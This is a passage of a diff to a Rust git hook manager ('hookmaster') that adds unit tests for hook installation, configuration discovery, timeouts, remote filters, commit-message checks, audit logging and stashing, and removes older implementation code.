+        assert!(!hooks_dir.join("pre-commit").exists());
+        assert_eq!(Manifest::load(repo).unwrap(), None);
+
+        // A corrupt manifest is replaced
+        fs::write(Manifest::path(repo), "not json").unwrap();
+        manager
+            .add_hooks_to_path(repo, &mut RecordingReporter::default())
+            .unwrap();
+        assert!(Manifest::load(repo).unwrap().is_some());
+    }
+
+    #[test]
+    fn test_add_hooks_selecting() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        for repo in ["api", "web"] {
+            fs::create_dir_all(root.join(repo).join(".git")).unwrap();
+        }
+        fs::write(root.join("web/hookmaster.toml"), "pre-commit = \"true\"\n").unwrap();
+
+        // Only the repository with a configuration is preselected
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .add_hooks_selecting(
+                &[root.to_path_buf()],
+                None,
+                &mut KeepPreselection,
+                &mut reporter,
+            )
+            .unwrap();
+        let installed: Vec<&Path> = reporter
+            .results
+            .iter()
+            .map(|result| result.repo.as_path())
+            .collect();
+        assert_eq!(installed, vec![root.join("web")]);
+        assert!(!root.join("api/.git/hooks/pre-commit").exists());
+
+        struct SelectNone;
+        impl RepoSelector for SelectNone {
+            fn select(&mut self, _: &[select::Candidate], selected: &mut [bool]) -> Result<()> {
+                selected.fill(false);
+                Ok(())
+            }
+        }
+        let mut reporter = RecordingReporter::default();
+        HookManager::new()
+            .add_hooks_selecting(&[root.to_path_buf()], None, &mut SelectNone, &mut reporter)
+            .unwrap();
+        assert!(reporter.results.is_empty());
+        assert_eq!(reporter.finished, 0);
+    }
+
+    #[test]
+    fn test_add_hooks_in_configured_script_format() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path().join("app");
+        fs::create_dir_all(repo.join(".git")).unwrap();
+        fs::write(
+            repo.join("hookmaster.toml"),
+            "pre-commit = \"make check\"\n\n[settings]\nscript-format = \"fish\"\n",
+        )
+        .unwrap();
+
+        HookManager::new()
+            .add_hooks_to_path(&repo, &mut RecordingReporter::default())
+            .unwrap();
+
+        let hooks_dir = repo.join(".git/hooks");
+        let script = fs::read_to_string(hooks_dir.join("pre-commit")).unwrap();
+        assert_eq!(script, GitHook::PreCommit.generate_fish_script_content());
+        assert!(!HookStatus::check(&hooks_dir, "pre-commit").stale);
+    }
+
+    #[test]
+    fn test_config_link_file() {
+        let temp_dir = TempDir::new().unwrap();
+        let shared = temp_dir.path().join("shared.toml");
+        fs::write(&shared, "pre-commit = \"make check\"\n").unwrap();
+        let repo = temp_dir.path().join("repo");
+        fs::create_dir_all(&repo).unwrap();
+        fs::write(repo.join(CONFIG_LINK_FILE), "../shared.toml\n").unwrap();
+
+        let config = GitHooksConfig::discover(&repo, None).unwrap().unwrap();
+        assert_eq!(config.get_hook_command("pre-commit"), Some("make check"));
+    }
+
+    #[test]
+    fn test_filter_hooks_by_installed_status() {
+        let temp_dir = TempDir::new().unwrap();
+        let repo = temp_dir.path();
+        fs::create_dir_all(repo.join(".git")).unwrap();
+        GitHook::PreCommit.install_to_repo(repo).unwrap();
+        GitHook::PrePush.install_to_repo(repo).unwrap();
+        let hooks_dir = repo.join(".git/hooks");
+        fs::write(
+            hooks_dir.join("pre-push"),
+            "#!/bin/sh\nhookmaster run pre-push\n",
+        )
+        .unwrap();
+
+        let status: Vec<HookStatus> = ["commit-msg", "pre-commit", "pre-push"]
+            .into_iter()
+            .map(|name| HookStatus::check(&hooks_dir, name))
+            .collect();
+        let names = |filter| -> Vec<&str> {
+            filter_hooks(&status, filter)
+                .into_iter()
+                .map(|hook| hook.name.as_str())
+                .collect()
+        };
+
+        assert_eq!(
+            names(HookFilter::default()),
+            vec!["commit-msg", "pre-commit", "pre-push"]
+        );
+        let installed = HookFilter {
+            installed: true,
+            ..Default::default()
+        };
+        assert_eq!(names(installed), vec!["pre-commit", "pre-push"]);
+        let not_installed = HookFilter {
+            not_installed: true,
+            ..Default::default()
+        };
+        assert_eq!(names(not_installed), vec!["commit-msg"]);
+        let stale = HookFilter {
+            stale: true,
+            ..Default::default()
+        };
+        assert_eq!(names(stale), vec!["pre-push"]);
+        assert_eq!(
+            names(HookFilter {
+                installed: true,
+                stale: true,
+                ..Default::default()
+            }),
+            vec!["pre-push"]
+        );
+        assert!(names(HookFilter {
+            not_installed: true,
+            stale: true,
+            ..Default::default()
+        })
+        .is_empty());
+    }
+
+    #[test]
+    fn test_clones_work_independently() {
+        let hook_manager = HookManager::new();
+        let handles: Vec<_> = [
+            ("feature/ABC-1-first-change", "ABC-1: First Change"),
+            ("bugfix/XYZ-22-second-fix", "XYZ-22: Second Fix"),
+        ]
+        .into_iter()
+        .map(|(branch, expected)| {
+            let clone = hook_manager.clone().with_strict(true);
+            thread::spawn(move || {
+                for _ in 0..100 {
+                    let message = clone
+                        .commit_processor
+                        .format_commit_message_from_branch(branch);
+                    assert_eq!(message.as_deref(), Some(expected));
+                }
+                clone.strict
+            })
+        })
+        .collect();
+        for handle in handles {
+            assert!(handle.join().unwrap());
+        }
+        // Builder calls on the clones don't affect the original
+        assert!(!hook_manager.strict);
+    }
+
+    #[test]
+    fn test_init_repository() {
+        use std::fs;
+
+        let temp_dir = TempDir::new().unwrap();
+
+        // Test creating sample config in a specific path (not current dir)
+        let config_path = temp_dir.path().join("githooks.toml");
+        let sample_config = GitHooksConfig::create_sample(None);
+        let result = sample_config.save_to_file(&config_path);
+
+        assert!(result.is_ok());
+        assert!(config_path.exists());
+
+        // Verify the content
+        let content = fs::read_to_string(&config_path).unwrap();
+        assert!(content.contains("pre-commit"));
+        assert!(content.contains("pre-push"));
+    }
+
+    #[test]
+    fn test_run_hook_with_empty_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let old_dir = std::env::current_dir().unwrap();
+
+        // Change to temp directory
+        std::env::set_current_dir(temp_dir.path()).unwrap();
+
+        // Create empty config
+        let config = GitHooksConfig::default();
+        config.save_to_file("githooks.toml").unwrap();
+
+        let hook_manager = HookManager::new();
+        let result = hook_manager.run_hook("non-existent", &[]);
+
+        // Restore original directory
+        std::env::set_current_dir(old_dir).unwrap();
+
+        // Should succeed but do nothing for empty/non-existent hooks
+        assert!(result.is_ok());
+    }
+
+    #[test]
+    fn test_strict_mode_requires_configuration() {
+        let missing = GitHooksConfig::default();
+        let mut empty_hook = GitHooksConfig::parse_toml("pre-commit = \"\"").unwrap();
+        empty_hook.source = Some(ConfigSource::HookmasterToml);
+
+        // Without strict mode, nothing to run is fine
+        let hook_manager = HookManager::new();
+        let run =
+            |config, hook| hook_manager.run_configured_hook(config, Path::new("."), hook, &[]);
+        assert!(run(&missing, "pre-commit").is_ok());
+        assert!(run(&empty_hook, "pre-commit").is_ok());
+        assert!(run(&empty_hook, "pre-push").is_ok());
+
+        let hook_manager = HookManager::new().with_strict(true);
+        let run =
+            |config, hook| hook_manager.run_configured_hook(config, Path::new("."), hook, &[]);
+        match run(&missing, "pre-commit") {
+            Err(error @ HookError::Strict(_)) => assert_eq!(
+                error.to_string(),
+                "No configuration found (looked in hookmaster.toml, githooks.toml, Cargo.toml, \
+                 package.json, pyproject.toml) (strict mode is enabled)"
+            ),
+            other => panic!("Expected Strict, got {other:?}"),
+        }
+        match run(&empty_hook, "pre-commit") {
+            Err(error @ HookError::Strict(_)) => assert_eq!(
+                error.to_string(),
+                "Hook 'pre-commit' has no command to run (strict mode is enabled)"
+            ),
+            other => panic!("Expected Strict, got {other:?}"),
+        }
+        match run(&empty_hook, "pre-push") {
+            Err(HookError::NotFound(hook)) => assert_eq!(hook, "pre-push"),
+            other => panic!("Expected NotFound, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn test_run_hook_reports_exit_code() {
+        let config = GitHooksConfig::parse_toml("pre-commit = \"exit 3\"").unwrap();
+        let hook_manager = HookManager::new();
+
+        let result = hook_manager.run_configured_hook(&config, Path::new("."), "pre-commit", &[]);
+        match result {
+            Err(HookError::ExecutionFailed { hook, exit_code }) => {
+                assert_eq!(hook, "pre-commit");
+                assert_eq!(exit_code, 3);
+            }
+            other => panic!("Expected ExecutionFailed, got {other:?}"),
+        }
+        let error = hook_manager
+            .run_configured_hook(&config, Path::new("."), "pre-commit", &[])
+            .unwrap_err();
+        assert_eq!(error.exit_code(), Some(3));
+        assert_eq!(
+            HookError::NotFound("pre-push".to_string()).exit_code(),
+            None
+        );
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_kills_command_after_timeout() {
+        let config =
+            GitHooksConfig::parse_toml(r#"pre-commit = { command = "sleep 5", timeout = 1 }"#)
+                .unwrap();
+        let hook_manager = HookManager::new();
+
+        let result = hook_manager.run_configured_hook(&config, Path::new("."), "pre-commit", &[]);
+        match result {
+            Err(HookError::TimedOut { hook, seconds }) => {
+                assert_eq!(hook, "pre-commit");
+                assert_eq!(seconds, 1);
+            }
+            other => panic!("Expected TimedOut, got {other:?}"),
+        }
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_adds_hookmaster_path_dirs() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let bin = root.join("vendor/bin");
+        fs::create_dir_all(&bin).unwrap();
+        let script = bin.join("fake-format");
+        fs::write(&script, "#!/bin/sh\ntouch formatted\n").unwrap();
+        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
+
+        let config = GitHooksConfig::parse_toml("pre-commit = \"fake-format\"").unwrap();
+        let hook_manager = HookManager::new();
+        assert_eq!(HookManager::augment_path(root).unwrap(), None);
+        assert!(hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .is_err());
 
-use crate::commit_msg::CommitMessageProcessor;
-use crate::config::GitHooksConfig;
-use crate::git_hooks::{find_git_repositories, GitHook};
+        // A missing directory is skipped without stopping the hook
+        fs::write(root.join(".hookmaster-path"), "missing/bin\nvendor/bin\n").unwrap();
+        let path = HookManager::augment_path(root).unwrap().unwrap();
+        assert_eq!(std::env::split_paths(&path).next(), Some(bin));
+        hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert!(root.join("formatted").exists());
+    }
 
-/// Main hook manager that orchestrates all hookmaster functionality
-pub struct HookManager {
-    commit_processor: CommitMessageProcessor,
-}
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_finds_project_local_tools() {
+        use std::os::unix::fs::PermissionsExt;
 
-impl Default for HookManager {
-    fn default() -> Self {
-        Self::new()
-    }
-}
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let bin = root.join("node_modules/.bin");
+        fs::create_dir_all(&bin).unwrap();
+        fs::write(root.join("package.json"), "{}").unwrap();
+        let script = bin.join("fake-lint");
+        fs::write(&script, "#!/bin/sh\ntouch linted\n").unwrap();
+        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
 
-impl HookManager {
-    /// Create a new hook manager
-    pub fn new() -> Self {
-        Self {
-            commit_processor: CommitMessageProcessor::new(),
-        }
+        let config = GitHooksConfig::parse_toml("pre-commit = \"fake-lint\"").unwrap();
+        let hook_manager = HookManager::new();
+        hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert!(root.join("linted").exists());
+
+        // With the defaults turned off the tool isn't found
+        let config =
+            GitHooksConfig::parse_toml("pre-commit = \"fake-lint\"\n[run]\nextra_paths = []")
+                .unwrap();
+        assert!(hook_manager
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .is_err());
     }
 
-    /// Add hookmaster hooks to all repositories under the given path
-    pub fn add_hooks_to_path(&self, path: &Path) -> Result<()> {
-        let repositories = find_git_repositories(path).with_context(|| {
-            format!("Failed to find git repositories under: {}", path.display())
-        })?;
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_reads_stdin_from_input_file() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let input = root.join("refs.txt");
+        let updates = "0000000 1111111 refs/heads/main\n2222222 3333333 refs/tags/v1.0\n";
+        fs::write(&input, updates).unwrap();
 
-        if repositories.is_empty() {
-            eprintln!("No git repositories found under: {}", path.display());
-            return Ok(());
-        }
+        let config = GitHooksConfig::parse_toml("pre-receive = \"cat > received.txt\"").unwrap();
+        let hook_manager = HookManager::new().with_stdin_file(Some(input));
+        hook_manager
+            .run_configured_hook(&config, root, "pre-receive", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("received.txt")).unwrap(),
+            updates
+        );
 
-        println!("Found {} git repositories", repositories.len());
+        let hook_manager = HookManager::new().with_stdin_file(Some(root.join("missing.txt")));
+        let err = hook_manager
+            .run_configured_hook(&config, root, "pre-receive", &[])
+            .unwrap_err();
+        assert!(err.to_string().starts_with("Input file not found: "));
+    }
 
-        for repo in repositories {
-            println!("Installing hooks to: {}", repo.display());
-            self.install_hooks_to_repo(&repo)?;
-        }
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_passes_shell_args() {
+        use std::os::unix::fs::PermissionsExt;
 
-        println!("Successfully installed hooks to all repositories");
-        Ok(())
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let shell = root.join("print-args");
+        fs::write(&shell, "#!/bin/sh\nprintf '%s\\n' \"$@\" > args.txt\n").unwrap();
+        fs::set_permissions(&shell, fs::Permissions::from_mode(0o755)).unwrap();
+
+        let content = format!(
+            "pre-commit = \"cargo fmt --check\"\n\n[settings]\nshell = \"{}\"\nshell-args = [\"--noprofile\", \"--norc\"]\n",
+            shell.display()
+        );
+        let config = GitHooksConfig::parse_toml(&content).unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("args.txt")).unwrap(),
+            "--noprofile\n--norc\n-c\ncargo fmt --check\n"
+        );
     }
 
-    /// Install hooks to a specific repository
-    fn install_hooks_to_repo(&self, repo_path: &Path) -> Result<()> {
-        // Install standard hooks
-        for hook in GitHook::standard_hooks() {
-            hook.install_to_repo(repo_path).with_context(|| {
+    #[test]
+    fn test_diff_installed_hooks() {
+        let temp_dir = TempDir::new().unwrap();
+        let [repo1, repo2] = ["one", "two"].map(|name| temp_dir.path().join(name));
+        for (repo, scripts) in [
+            (
+                &repo1,
+                [
+                    ("pre-commit", "#!/bin/sh\nhookmaster run pre-commit\n"),
+                    ("pre-push", "#!/bin/sh\necho one\nexit 0\n"),
+                    ("commit-msg.sample", "#!/bin/sh\n"),
+                ],
+            ),
+            (
+                &repo2,
+                [
+                    ("pre-commit", "#!/bin/sh\nhookmaster run pre-commit\n"),
+                    ("pre-push", "#!/bin/sh\necho two\nexit 0\n"),
+                    ("post-merge", "#!/bin/sh\n"),
+                ],
+            ),
+        ] {
+            let hooks_dir = repo.join(".git/hooks");
+            fs::create_dir_all(&hooks_dir).unwrap();
+            for (name, content) in scripts {
+                fs::write(hooks_dir.join(name), content).unwrap();
+            }
+        }
+
+        let diffs = HookManager::new()
+            .diff_installed_hooks(&repo1, &repo2)
+            .unwrap();
+        let names: Vec<&str> = diffs.iter().map(|d| d.hook_name.as_str()).collect();
+        assert_eq!(names, ["post-merge", "pre-commit", "pre-push"]);
+        let hooks1 = repo1.join(".git/hooks");
+        let hooks2 = repo2.join(".git/hooks");
+        assert_eq!(
+            diffs[0].diff.as_deref(),
+            Some(
                 format!(
-                    "Failed to install {} hook to {}",
-                    hook.to_filename(),
-                    repo_path.display()
+                    "--- /dev/null\n+++ {}\n@@ -1,0 +1,1 @@\n+#!/bin/sh\n",
+                    hooks2.join("post-merge").display()
                 )
-            })?;
-        }
+                .as_str()
+            )
+        );
+        assert_eq!(diffs[1].diff, None);
+        assert_eq!(
+            diffs[2].diff.as_deref(),
+            Some(
+                format!(
+                    "--- {}\n+++ {}\n@@ -1,3 +1,3 @@\n #!/bin/sh\n-echo one\n+echo two\n exit 0\n",
+                    hooks1.join("pre-push").display(),
+                    hooks2.join("pre-push").display()
+                )
+                .as_str()
+            )
+        );
 
-        Ok(())
+        let err = HookManager::new()
+            .diff_installed_hooks(&repo1, temp_dir.path())
+            .unwrap_err();
+        assert!(err.to_string().starts_with("Not a git repository: "));
     }
 
-    /// Initialize current repository with sample githooks.toml
-    pub fn init_repository(&self) -> Result<()> {
-        let config_path = Path::new("githooks.toml");
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_passes_git_args_to_commands() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let msg_file = root.join("COMMIT EDITMSG");
+        fs::write(&msg_file, "Fix the build\n").unwrap();
+        let args = [msg_file.display().to_string()];
+        let run = |command: &str| {
+            let config = GitHooksConfig::parse_toml(&format!("commit-msg = {command:?}")).unwrap();
+            HookManager::new()
+                .run_configured_hook(&config, root, "commit-msg", &args)
+                .unwrap();
+        };
 
-        if config_path.exists() {
-            eprintln!("githooks.toml already exists, skipping initialization");
-            return Ok(());
+        run("cp \"$1\" received.txt");
+        assert_eq!(
+            fs::read_to_string(root.join("received.txt")).unwrap(),
+            "Fix the build\n"
+        );
+        run("cp {msg_file} placeholder.txt");
+        assert_eq!(
+            fs::read_to_string(root.join("placeholder.txt")).unwrap(),
+            "Fix the build\n"
+        );
+        // Commands that don't refer to the arguments get them appended
+        run("sh -c 'cp \"$0\" appended.txt'");
+        assert_eq!(
+            fs::read_to_string(root.join("appended.txt")).unwrap(),
+            "Fix the build\n"
+        );
+
+        let config = GitHooksConfig::parse_toml(
+            "post-checkout = \"echo {args} > args.txt; echo $# >> args.txt\"",
+        )
+        .unwrap();
+        let args = ["abc123", "def456", "1"].map(String::from);
+        HookManager::new()
+            .run_configured_hook(&config, root, "post-checkout", &args)
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("args.txt")).unwrap(),
+            "abc123 def456 1\n3\n"
+        );
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_remote_filters() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let config = GitHooksConfig::parse_toml(
+            r#"[hooks.pre-push]
+strict = { command = "echo strict >> ran.txt", only_remotes = ["origin"] }
+any = { command = "echo any >> ran.txt", skip_remotes = ["*github.com*"] }
+
+[settings]
+append-args = false
+"#,
+        )
+        .unwrap();
+        let push = |args: &[&str]| {
+            let _ = fs::remove_file(root.join("ran.txt"));
+            let args: Vec<String> = args.iter().map(|arg| arg.to_string()).collect();
+            HookManager::new()
+                .run_configured_hook(&config, root, "pre-push", &args)
+                .unwrap();
+            fs::read_to_string(root.join("ran.txt")).unwrap_or_default()
+        };
+
+        assert_eq!(
+            push(&["origin", "git@gitlab.example.com:team/app.git"]),
+            "strict\nany\n"
+        );
+        assert_eq!(push(&["mirror", "git@github.com:me/app.git"]), "");
+        assert_eq!(push(&["backup", "/srv/backup.git"]), "any\n");
+        // Run by hand, without a remote
+        assert_eq!(push(&[]), "strict\nany\n");
+
+        // Filters of the hook as a whole
+        fs::remove_file(root.join("ran.txt")).unwrap();
+        let config = GitHooksConfig::parse_toml(
+            "[hooks.pre-push]\nonly-remotes = [\"origin\"]\nall = { command = \"echo all > ran.txt\" }",
+        )
+        .unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "pre-push", &["mirror".to_string()])
+            .unwrap();
+        assert!(!root.join("ran.txt").exists());
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_forbids_unfinished_commits() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let git = |args: &[&str]| {
+            let output = std::process::Command::new("git")
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(args)
+                .current_dir(root)
+                .output()
+                .unwrap();
+            assert!(output.status.success(), "git {args:?}");
+            String::from_utf8_lossy(&output.stdout).trim().to_string()
+        };
+        git(&["init", "-q"]);
+        git(&["commit", "-q", "--allow-empty", "-m", "Add the parser"]);
+        let base = git(&["rev-parse", "HEAD"]);
+        git(&[
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "fixup! Add the parser",
+        ]);
+        let head = git(&["rev-parse", "HEAD"]);
+
+        let config = GitHooksConfig::parse_toml(
+            "pre-push = \"cat > pushed.txt\"\n[protect]\nforbid_unfinished_commits = true",
+        )
+        .unwrap();
+        let push = |branch: &str| {
+            let input = root.join("input.txt");
+            fs::write(
+                &input,
+                format!("refs/heads/work {head} refs/heads/{branch} {base}\n"),
+            )
+            .unwrap();
+            HookManager::new()
+                .with_stdin_file(Some(input))
+                .run_configured_hook(&config, root, "pre-push", &[])
+        };
+
+        let err = push("main").unwrap_err();
+        assert_eq!(err.exit_code(), Some(1));
+        let message = err.to_string();
+        assert!(message.contains(&format!("  {} fixup! Add the parser", &head[..12])));
+        assert!(!root.join("pushed.txt").exists());
+
+        // Feature branches are unrestricted, and the commands still get stdin
+        push("feature/parser").unwrap();
+        assert!(fs::read_to_string(root.join("pushed.txt"))
+            .unwrap()
+            .contains("refs/heads/feature/parser"));
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_writes_audit_log() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let config = GitHooksConfig::parse_toml(
+            r#"
+[hooks.pre-commit.check]
+command = "true"
+[hooks.pre-commit.lint]
+command = "exit 3"
+depends_on = ["check"]
+[hooks.pre-commit.after]
+command = "true"
+depends_on = ["lint"]
+
+[settings]
+audit-log = "logs/audit.log"
+"#,
+        )
+        .unwrap();
+        assert!(HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .is_err());
+
+        let log = fs::read_to_string(root.join("logs/audit.log")).unwrap();
+        let entries: Vec<serde_json::Value> = log
+            .lines()
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect();
+        // Commands that didn't run aren't logged
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0]["command"], "true");
+        assert_eq!(entries[0]["exit_code"], 0);
+        assert_eq!(entries[1]["command"], "exit 3");
+        assert_eq!(entries[1]["exit_code"], 3);
+        assert_eq!(entries[1]["hook"], "pre-commit");
+        assert_eq!(entries[1]["repo"], root.display().to_string());
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_wraps_commit_message_body() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        fs::write(
+            root.join("COMMIT_EDITMSG"),
+            "Fix the build\n\nThe build broke because of a missing feature flag.\n",
+        )
+        .unwrap();
+        let args = ["COMMIT_EDITMSG".to_string()];
+
+        // Without commands, too
+        let config = GitHooksConfig::parse_toml("[commit-msg]\nwrap_body = 30").unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "commit-msg", &args)
+            .unwrap();
+        let wrapped = "Fix the build\n\nThe build broke because of a\nmissing feature flag.\n";
+        assert_eq!(
+            fs::read_to_string(root.join("COMMIT_EDITMSG")).unwrap(),
+            wrapped
+        );
+
+        // Commands check the wrapped message
+        let config = GitHooksConfig::parse_toml(
+            "commit-msg = \"cp \\\"$1\\\" checked.txt\"\n[commit-msg]\nwrap_body = 30",
+        )
+        .unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "commit-msg", &args)
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("checked.txt")).unwrap(),
+            wrapped
+        );
+    }
+
+    #[test]
+    fn test_run_hook_checks_duplicate_subject() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let git = |args: &[&str]| {
+            let status = std::process::Command::new("git")
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(args)
+                .current_dir(root)
+                .status()
+                .unwrap();
+            assert!(status.success(), "git {args:?}");
+        };
+        git(&["init", "-q"]);
+        for subject in ["JIRA-1: Fix tests", "Add login", "Update docs"] {
+            git(&["commit", "-q", "--allow-empty", "-m", subject]);
         }
+        let args = ["COMMIT_EDITMSG".to_string()];
+        let check = |within: usize, severity: &str, message: &str| {
+            fs::write(root.join("COMMIT_EDITMSG"), message).unwrap();
+            let config = GitHooksConfig::parse_toml(&format!(
+                "[commit-msg]\nforbid_duplicate_subject_within = {within}\nduplicate_subject_severity = \"{severity}\""
+            ))
+            .unwrap();
+            HookManager::new().run_configured_hook(&config, root, "commit-msg", &args)
+        };
 
-        // Create sample configuration
-        let sample_config = GitHooksConfig::create_sample();
-        sample_config
-            .save_to_file(config_path)
-            .with_context(|| "Failed to create sample githooks.toml")?;
+        let err = check(3, "error", "JIRA-2: fix tests\n\n# Please enter\n").unwrap_err();
+        assert!(matches!(err, HookError::DuplicateSubject { within: 3, .. }));
+        assert_eq!(err.exit_code(), Some(1));
+        // Older than the commits checked
+        check(2, "error", "JIRA-2: fix tests\n").unwrap();
+        check(3, "error", "Fix the other tests\n").unwrap();
+        check(3, "warn", "Fix tests\n").unwrap();
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_env_files() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let Some(home) = std::env::var("HOME").ok() else {
+            return;
+        };
+        fs::write(root.join(".env"), "GREETING=hello\nTARGET=dev\n").unwrap();
+        fs::write(root.join(".env.local"), "TARGET=local\nHOME=/elsewhere\n").unwrap();
+        let config =
+            GitHooksConfig::parse_toml("pre-commit = \"echo $GREETING $TARGET $HOME > env.txt\"")
+                .unwrap();
+        let env_files = vec![root.join(".env"), root.join(".env.local")];
 
-        println!("Created sample githooks.toml");
+        HookManager::new()
+            .with_env_files(env_files.clone(), false)
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("env.txt")).unwrap(),
+            format!("hello local {home}\n")
+        );
 
-        // Install hooks to current repository
-        let current_dir =
-            std::env::current_dir().with_context(|| "Failed to get current directory")?;
+        HookManager::new()
+            .with_env_files(env_files, true)
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("env.txt")).unwrap(),
+            "hello local /elsewhere\n"
+        );
 
-        if crate::git_hooks::is_git_repository(&current_dir) {
-            self.install_hooks_to_repo(&current_dir)?;
-            println!("Installed hooks to current repository");
-        } else {
-            eprintln!("Current directory is not a git repository, hooks not installed");
+        let err = HookManager::new()
+            .with_env_files(vec![root.join("missing.env")], false)
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap_err();
+        assert!(err.to_string().starts_with("Failed to read env file"));
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_partially_staged() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let git = |args: &[&str]| {
+            let status = std::process::Command::new("git")
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(args)
+                .current_dir(root)
+                .status()
+                .unwrap();
+            assert!(status.success(), "git {args:?}");
+        };
+        git(&["init", "-q"]);
+        fs::write(root.join("lib.rs"), "fn one() {}\n").unwrap();
+        git(&["add", "."]);
+        git(&["commit", "-q", "-m", "Initial commit"]);
+        fs::write(root.join("lib.rs"), "fn two() {}\n").unwrap();
+        git(&["add", "lib.rs"]);
+        fs::write(root.join("lib.rs"), "fn three() {}\n").unwrap();
+
+        let run = |severity: &str| {
+            let _ = fs::remove_file(root.join("ran.txt"));
+            let config = GitHooksConfig::parse_toml(&format!(
+                "pre-commit = \"touch ran.txt\"\n[settings]\npre-commit-partially-staged = \"{severity}\""
+            ))
+            .unwrap();
+            let result = HookManager::new().run_configured_hook(&config, root, "pre-commit", &[]);
+            (result, root.join("ran.txt").exists())
+        };
+
+        let (result, ran) = run("warn");
+        assert!(result.is_ok() && ran);
+
+        let (result, ran) = run("error");
+        let err = result.unwrap_err();
+        assert!(matches!(&err, HookError::PartiallyStaged(files) if files == &["lib.rs"]));
+        assert_eq!(err.exit_code(), Some(1));
+        assert!(err.to_string().contains("\n  lib.rs\n"));
+        assert!(!ran);
+
+        // Once the rest is staged, the commit gets what was checked
+        git(&["add", "lib.rs"]);
+        let (result, ran) = run("error");
+        assert!(result.is_ok() && ran);
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_hook_stash_unstaged() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        let git = |args: &[&str]| {
+            let status = std::process::Command::new("git")
+                .args(["-c", "user.name=Test", "-c", "user.email=test@example.com"])
+                .args(args)
+                .current_dir(root)
+                .status()
+                .unwrap();
+            assert!(status.success(), "git {args:?}");
+        };
+        git(&["init", "-q"]);
+        fs::write(root.join("staged.txt"), "clean\n").unwrap();
+        fs::write(root.join("unstaged.txt"), "clean\n").unwrap();
+        git(&["add", "."]);
+        git(&["commit", "-q", "-m", "Initial commit"]);
+        fs::write(root.join("staged.txt"), "still clean\n").unwrap();
+        git(&["add", "staged.txt"]);
+        fs::write(root.join("unstaged.txt"), "TODO lint error\n").unwrap();
+
+        let lint = "pre-commit = \"! grep TODO staged.txt unstaged.txt\"";
+        let config = GitHooksConfig::parse_toml(lint).unwrap();
+        assert!(HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .is_err());
+        HookManager::new()
+            .with_stash_unstaged(true)
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        assert_eq!(
+            fs::read_to_string(root.join("unstaged.txt")).unwrap(),
+            "TODO lint error\n"
+        );
+
+        // The setting stashes for pre-commit, also when the hook fails
+        let config = GitHooksConfig::parse_toml(&format!(
+            "{lint}\n[settings]\npre-commit-stash-unstaged = true"
+        ))
+        .unwrap();
+        HookManager::new()
+            .run_configured_hook(&config, root, "pre-commit", &[])
+            .unwrap();
+        fs::write(root.join("staged.txt"), "TODO\n").unwrap();
+        git(&["add", "staged.txt"]);
